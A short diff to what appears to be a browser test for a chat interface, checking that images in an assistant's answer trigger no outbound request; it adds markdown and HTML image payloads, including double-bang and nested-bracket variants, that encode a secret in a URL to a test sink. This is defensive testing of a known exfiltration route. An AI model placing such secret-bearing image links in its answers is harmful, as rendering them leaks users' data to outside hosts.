@@ -98,7 +98,10 @@ def test_no_request_leaves_the_page_for_an_image_in_an_answer(page, sink, emu):
 
     def images(secret: str) -> str:
         leak = f"{sink.origin}/leak?secret={secret}"
-        return f'![x]({leak}-markdown) and <img src="{leak}-html">'
+        return (
+            f'![x]({leak}-markdown) and <img src="{leak}-html"> and !![y]({leak}-double) '
+            f"and ![a [b] c]({leak}-nested)"
+        )
 
     send(page, "an ordinary first question")
     messages = page.get_by_test_id("stChatMessage")
